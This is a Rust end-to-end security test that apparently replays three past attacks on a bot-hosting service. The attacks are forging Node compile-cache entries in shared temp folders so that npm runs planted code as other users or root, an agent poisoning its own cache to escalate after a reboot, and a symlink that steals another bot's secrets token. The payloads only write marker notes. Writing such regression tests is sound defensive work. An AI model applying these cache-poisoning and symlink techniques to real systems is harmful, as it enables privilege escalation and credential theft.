//! Three attacks that once succeeded, each by what anybody at its place can do.

use super::agent::{Agent, local_does, local_user};
use crate::e2e::world::World;
use rustix::fs::inotify::{self, CreateFlags, WatchFlags};
use std::io::{BufRead, BufReader};
use std::mem::MaybeUninit;
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};
use std::time::Duration;

const FORGE: &str = include_str!("forge.js");

/// Where code of an attack leaves a note wherever it runs, past the emptying of `/tmp` at boot.
const NOTES: &str = "/var/tmp/notes";

/// Makes the folder for the notes of an attack.
pub fn prepare(world: &World) {
    world.must_on_server(&format!(
        "rm -rf {NOTES}; rm -f /root/noted.*; install -d -m 1777 {NOTES}"
    ));
}

/// A module that notes that it runs, and as whom and where: `uid=N no_new_privs=N GROUP`.
fn noting(name: &str) -> String {
    format!(
        r#"
if (!process.env.FORGING) try {{
  const fs = process.getBuiltinModule("fs");
  const groups = fs.readFileSync("/proc/self/cgroup", "utf8");
  const unit = groups.match(/[^/\n]+\.(service|scope)/g)?.pop() ?? "none";
  const privs = fs.readFileSync("/proc/self/status", "utf8").match(/NoNewPrivs:\s*(\d)/)[1];
  const line = `{name} uid=${{process.getuid()}} no_new_privs=${{privs}} unit=${{unit}}\n`;
  for (const file of [`{NOTES}/{name}.${{process.getuid()}}`, `${{process.env.HOME}}/noted.{name}`])
    try {{ fs.appendFileSync(file, line, {{ mode: 0o644 }}); }} catch {{}}
}} catch {{}}"#
    )
}

/// What ran, a line each.
fn notes(world: &World) -> Vec<String> {
    let told = world.must_on_server(&format!(
        "cat {NOTES}/* /root/noted.* /tmp/systemd-private-*/tmp/notes/* /var/tmp/systemd-private-*/tmp/notes/* \
         /var/lib/clawdwako/*/noted.* 2>/dev/null | sort | uniq -c || true"
    ));
    told.lines().map(|line| line.trim().to_owned()).collect()
}

/// Shell that forges entries for what npm loads first, to load `/tmp/NAME.js`, into `$HOME/entries`.
fn forging_npm(name: &str) -> String {
    format!(
        "mkdir -p entries\n\
         cat >forge.js <<'FORGE'\n{FORGE}\nFORGE\n\
         cat >code.js <<'CODE'\n{code}\nCODE\n\
         node=$(echo /opt/clawdwako/node/*/bin/node)\n\
         $node forge.js cjs 'require(\"/tmp/{name}.js\")' entries \
         /opt/clawdwako/node/*/lib/node_modules/npm/lib/cli/*.js",
        code = noting(name)
    )
}

/// Shell that lays the entries where npm looks, for every user who could run it, and the code.
fn laying(name: &str) -> String {
    format!(
        "umask 022\n\
         for tmp in /tmp /var/tmp /dev/shm; do\n\
         mkdir $tmp/node-compile-cache 2>/dev/null || continue\n\
         tag=$(basename entries/*); cp -r entries/$tag $tmp/node-compile-cache/$tag-0\n\
         for uid in $(cut -d: -f3 /etc/passwd) $(seq 900 1010); do\n\
         [ -e $tmp/node-compile-cache/$tag-$uid ] || ln -s $tag-0 $tmp/node-compile-cache/$tag-$uid; done\n\
         echo laid in $tmp\n\
         done\n\
         rm -f /tmp/{name}.js; cp code.js /tmp/{name}.js"
    )
}

/// A local user of a server lays entries before anything of ours but Node is there; then the first
/// bot comes. Answers what of it ran.
pub fn local_user_before_the_first_deploy(world: &World, flags: &[&str]) -> Vec<String> {
    local_user(world);
    println!(
        "ATTACK B forged: {}",
        local_does(world, &forging_npm("from-local-user"))
    );
    println!("ATTACK B laid: {}", local_does(world, &laying("from-local-user")));
    world.deploy("one", "existing", flags);
    let ran = notes(world);
    println!("ATTACK B ran, after the first deploy: {ran:#?}");
    ran.into_iter()
        .filter(|note| note.contains("from-local-user"))
        .collect()
}

/// The agent puts code into its own compile cache, which lays entries for npm wherever it runs; then
/// the server boots, is looked at, and gets a second bot. Answers what ran outside of the agent's
/// own units, or as anybody else.
pub fn agent_to_root(world: &World, flags: &[&str]) -> Vec<String> {
    let agent = Agent::of(world, "one");
    println!("ATTACK A forged for npm: {}", agent.does(&forging_npm("from-agent")));
    // The code that the agent's own command line is to run: it says so, and goes on as a shell.
    let own = format!(
        "cat >p.mjs <<'CODE'\n{code}\n\
         if (!process.env.FORGING) try {{ process.getBuiltinModule('child_process').execFileSync('/bin/bash', ['-c', \
         'cd; . ./lay.sh >laid 2>&1']); }} catch {{}}\nCODE\n\
         cat >lay.sh <<'LAY'\n{laying}\nLAY\n\
         mkdir -p own\n\
         /opt/clawdwako/bots/{user}/node/bin/node forge.js esm 'import(process.env.HOME+\"/p.mjs\")' own \
         $(ls /opt/clawdwako/bots/{user}/current/node_modules/openclaw/*.mjs | xargs realpath)",
        code = noting("own-code"),
        laying = laying("from-agent"),
        user = agent.user,
    );
    println!("ATTACK A forged for the agent: {}", agent.does(&own));
    // Into each cache that its own process names, or that Node would look for.
    let cache = world.must_on_server(&format!(
        "tr '\\0' '\\n' </proc/$(systemctl show -p MainPID --value {})/environ | sed -n 's/^NODE_COMPILE_CACHE=//p'",
        agent.unit()
    ));
    let planted = agent.does(&format!(
        "for cache in {cache} /var/cache/clawdwako/{user} /tmp/node-compile-cache ~/.cache/node-compile-cache; do\n\
         mkdir -p $cache 2>/dev/null; tag=$(basename own/*)\n\
         for to in $cache/$tag-$(id -u) $cache/$tag; do\n\
         mkdir -p $to 2>/dev/null; cp -f own/$tag/* $to/ 2>/dev/null && echo planted in $to; done; done; true",
        cache = cache.trim(),
        user = agent.user,
    ));
    println!("ATTACK A planted: {planted}");
    world.run(&["sandbox", "host", &world.host(), "reboot"]).ok();
    world.until("well after the reboot", Duration::from_secs(180), || {
        let status = world.json(&["status", "one"]);
        let well = status["health"]["verdict"] == "well";
        well.then_some(()).ok_or_else(|| status["health"].to_string())
    });
    println!("ATTACK A ran, after the reboot and status: {:#?}", notes(world));
    println!("ATTACK A /tmp: {}", world.must_on_server("ls -la /tmp"));
    world.deploy("two", "existing", flags);
    let ran = notes(world);
    println!("ATTACK A ran, after the second deploy: {ran:#?}");
    println!(
        "ATTACK A root's files: {}",
        world.must_on_server(&format!("ls -la {NOTES} /root | grep -E 'from-|noted' || true"))
    );
    let uid = world.must_on_server(&format!("id -u {}", agent.user));
    let own = format!(" uid={} ", uid.trim());
    ran.into_iter()
        .filter(|note| note.contains("own-code") || note.contains("from-agent"))
        .filter(|note| !(note.contains(&own) && note.contains("unit=clawdwako-")))
        .collect()
}

/// The agent puts a link to another bot's secrets where its own are; then what a user can ask of one
/// bot is asked. Answers what read the other's secrets, and what told its token.
pub fn another_bots_secrets(world: &World) -> Vec<String> {
    let (thief, victim) = (Agent::of(world, "one"), Agent::of(world, "two"));
    let file = format!("{}/secrets/secrets.json", victim.state());
    let secrets: serde_json::Value = serde_json::from_str(&world.must_on_server(&format!("cat {file}"))).unwrap();
    let token = secrets["gateway"].as_str().unwrap();
    // So that it is not its own agent that reads them.
    world.run(&["stop", "two", "--sandbox", "--yes"]).ok();
    let link = format!("mv secrets/secrets.json kept.json; ln -s {file} secrets/secrets.json");
    thief.does(&link);
    let opened = Opened::of(&format!("/proc/{}/root{file}", world.leader()));
    let mut found = Vec::new();
    for verb in [
        &["status", "one"][..],
        &["logs", "one", "--lines", "50"],
        &["status", "one", "--json"],
    ] {
        let ran = world.run(&[verb, &["--sandbox"]].concat());
        if ran.out.contains(token) || ran.err.contains(token) {
            found.push(format!("{} told the token of two", verb.join(" ")));
        }
        let times = opened.times();
        if times > 0 {
            found.push(format!("{} opened the secrets of two, {times} times", verb.join(" ")));
        }
    }
    let open = first_line(world.command(&["open", "one", "--no-browser", "--sandbox"]));
    if open.contains(token) {
        found.push("open gave the token of two to the gateway of one".to_owned());
    }
    if opened.times() > 0 {
        found.push("open opened the secrets of two".to_owned());
    }
    thief.does("mv kept.json secrets/secrets.json");
    println!("ATTACK C found: {found:#?}");
    found
}

/// How often a file is opened, by whomever.
struct Opened(OwnedFd);

impl Opened {
    fn of(file: &str) -> Opened {
        let watch = inotify::init(CreateFlags::NONBLOCK).unwrap();
        inotify::add_watch(&watch, file, WatchFlags::OPEN).unwrap();
        Opened(watch)
    }

    /// Since it was asked last.
    fn times(&self) -> usize {
        let mut space = [MaybeUninit::uninit(); 4096];
        let mut events = inotify::Reader::new(&self.0, &mut space);
        std::iter::from_fn(|| events.next().ok().map(drop)).count()
    }
}

/// The first line that a command prints, within a minute and a half; then it is ended.
fn first_line(mut command: Command) -> String {
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let (tell, told) = std::sync::mpsc::channel();
    std::thread::spawn(move || tell.send(lines.next()));
    let line = told.recv_timeout(Duration::from_secs(90));
    child.kill().unwrap();
    child.wait().unwrap();
    line.ok().flatten().and_then(Result::ok).unwrap_or_default()
}
